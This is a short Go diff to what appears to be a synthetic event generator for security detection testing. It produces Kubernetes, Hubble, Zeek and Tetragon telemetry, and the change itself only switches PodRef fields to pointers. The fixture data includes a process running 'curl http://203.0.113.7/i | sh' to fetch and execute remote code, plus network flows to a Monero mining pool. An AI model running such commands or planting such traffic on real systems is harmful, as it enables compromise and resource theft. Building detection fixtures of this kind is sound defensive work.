@@ -49,14 +49,14 @@ func (w *worldMaker) pod(n int, id string, ref image.Reference, imageNo int, add
 		}
 	}
 	if w.maybe(50) {
-		of := event.PodRef{Namespace: "prod", Pod: o.Name, Workload: event.ObjectRef{Kind: "Deployment", Namespace: "prod", Name: "web"}}
+		of := &event.PodRef{Namespace: "prod", Pod: o.Name, Workload: event.ObjectRef{Kind: "Deployment", Namespace: "prod", Name: "web"}}
 		src, dst := netip.AddrPortFrom(addr, 4000), netip.MustParseAddrPort([]string{"203.0.113.66:3333", "198.51.100.10:80"}[rng.IntN(2)])
 		w.add(event.Hubble, start+10*event.Second, 1, &event.Flow{Protocol: "tcp", Src: src, Dst: dst, SrcPod: of, Answered: true, DstNames: []string{"pool.minexmr.com"}[:rng.IntN(2)]})
 		w.add(event.Zeek, start+11*event.Second, event.Microsecond, &event.TLS{Client: src, Server: dst, ServerName: "x.example"})
 	}
 	if w.maybe(30) {
 		w.add(event.Tetragon, start+20*event.Second, 1, &event.Process{PID: 400, PPID: 399, Exe: "/bin/sh", Args: []string{"sh", "-c", "curl http://203.0.113.7/i | sh"}, AUID: -1,
-			Container: []string{"", id, id[:31]}[rng.IntN(3)], Of: event.PodRef{Namespace: "prod", Pod: o.Name, UID: o.UID}})
+			Container: []string{"", id, id[:31]}[rng.IntN(3)], Of: &event.PodRef{Namespace: "prod", Pod: o.Name, UID: o.UID}})
 	}
 	if w.maybe(20) {
 		w.add(event.KubeAudit, start+int64(rng.IntN(1500))*event.Second, event.Microsecond, &event.Pod{Verb: event.VerbDelete, Object: o, Code: 200})
